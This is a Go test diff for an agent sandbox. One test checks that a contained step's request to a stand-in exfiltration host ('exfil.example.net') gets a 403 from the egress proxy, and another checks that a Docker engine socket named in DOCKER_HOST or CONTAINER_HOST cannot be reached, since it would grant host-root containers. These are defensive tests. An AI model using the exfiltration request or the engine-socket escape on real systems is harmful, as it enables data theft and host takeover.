@@ -3,6 +3,7 @@ package agent
 import (
 	"bytes"
 	"context"
+	"os"
 	"os/exec"
 	"path/filepath"
 	"strings"
@@ -91,5 +92,107 @@ func TestHostProxyKeepsNoCredential(t *testing.T) {
 	got := strings.Join(hostProxy(base), " ")
 	if got != "HTTPS_PROXY=http://corp-proxy:3128 NO_PROXY=localhost,.internal" {
 		t.Errorf("hostProxy = %q", got)
+	}
+}
+
+// TestProxyUnderDeepTempDir: with a $TMPDIR so deep that a socket there
+// would have a longer path than a Unix socket may (a CI's nested job
+// folder), a contained step still gets its proxy: its socket's folder
+// goes to /tmp instead, and is gone once the step ended.
+func TestProxyUnderDeepTempDir(t *testing.T) {
+	box, err := sandbox.New(context.Background(), sandbox.ModeAuto)
+	if err != nil {
+		t.Skipf("no sandbox on this machine, so no proxy to start: %v", err)
+	}
+	if err := box.ProbeNetwork(context.Background()); err != nil {
+		t.Skipf("this machine cannot make network namespaces: %v", err)
+	}
+	probe := sandboxtest.NetProbe(t)
+	deep := filepath.Join(t.TempDir(), strings.Repeat("nested-job-folder/", 6))
+	if err := os.MkdirAll(deep, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	t.Setenv("TMPDIR", deep)
+	dir, err := SocketDir("planex-egress-", "proxy.sock")
+	if err != nil {
+		t.Fatal(err)
+	}
+	os.Remove(dir)
+	if !strings.HasPrefix(dir, "/tmp/planex-egress-") {
+		t.Errorf("SocketDir under a deep $TMPDIR = %s, want a folder of /tmp", dir)
+	}
+	cmd := exec.Command(probe, "get", "http://exfil.example.net/x")
+	cmd.Dir = "/"
+	var out bytes.Buffer
+	cmd.Stdout, cmd.Stderr = &out, &out
+	c := Containment{Sandbox: box, Read: []string{filepath.Dir(probe)}, Egress: &Egress{Log: &egress.Log{}}}
+	cleanup, err := c.PrepareContext(context.Background(), cmd, []string{"PATH=/usr/bin:/bin"}, nil, nil)
+	if err != nil {
+		t.Fatalf("preparing a contained step under a deep $TMPDIR: %v", err)
+	}
+	err = cmd.Run()
+	cleanup()
+	if err != nil || !strings.HasPrefix(out.String(), "ok: 403") {
+		t.Errorf("the step's request through its proxy: %v, %q; want the proxy's 403", err, out.String())
+	}
+	entries, _ := os.ReadDir(deep)
+	for _, e := range entries {
+		if e.Name() != "planex-lend" { // root's lending locks stay, by design
+			t.Errorf("the step left %s in $TMPDIR", e.Name())
+		}
+	}
+}
+
+// TestEngineSocketOutOfReach: a container engine's socket where
+// DOCKER_HOST or CONTAINER_HOST says (away from /run, which the sandbox
+// covers anyway) would start containers for whoever connects, with the
+// host's / mounted and a network of their own. A contained program that
+// finds it there reaches nothing, with the network open too; the same
+// socket unnamed by those variables stays reachable (the row that shows
+// the test can fail).
+func TestEngineSocketOutOfReach(t *testing.T) {
+	box, err := sandbox.New(context.Background(), sandbox.ModeAuto)
+	if err != nil {
+		t.Skipf("no sandbox on this machine: %v", err)
+	}
+	dir, err := os.MkdirTemp("/srv", "planex-engine-")
+	if err != nil {
+		t.Skipf("needs a folder outside /tmp and the homes, which the sandbox covers anyway (run as root): %v", err)
+	}
+	t.Cleanup(func() { os.RemoveAll(dir) })
+	if err := os.Chmod(dir, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	sock := filepath.Join(dir, "docker.sock")
+	l := sandboxtest.Listen(t, "unix", sock)
+	if err := os.Chmod(sock, 0o666); err != nil {
+		t.Fatal(err)
+	}
+	probe := sandboxtest.NetProbe(t)
+	for _, row := range []struct {
+		name  string
+		env   string
+		reach bool
+	}{
+		{"DOCKER_HOST", "DOCKER_HOST=unix://" + sock, false},
+		{"CONTAINER_HOST", "CONTAINER_HOST=unix://" + dir + "/./docker.sock", false},
+		{"no variable naming it", "", true},
+	} {
+		msg := "loot-" + strings.ReplaceAll(row.name, " ", "-")
+		cmd := exec.Command(probe, "unix", sock, msg)
+		cmd.Dir = "/"
+		var out bytes.Buffer
+		cmd.Stdout, cmd.Stderr = &out, &out
+		c := Containment{Sandbox: box, Network: sandbox.NetworkOpen, Read: []string{filepath.Dir(probe)}}
+		cleanup, err := c.PrepareContext(context.Background(), cmd, []string{"PATH=/usr/bin:/bin", row.env}, nil, nil)
+		if err != nil {
+			t.Fatal(err)
+		}
+		err = cmd.Run()
+		cleanup()
+		arrived := strings.Contains(strings.Join(l.Got(), " "), msg)
+		if err != nil || arrived != row.reach || strings.HasPrefix(out.String(), "ok:") != row.reach {
+			t.Errorf("%s: want reached=%v; the program said %q (%v), the engine got %q", row.name, row.reach, out.String(), err, l.Got())
+		}
 	}
 }
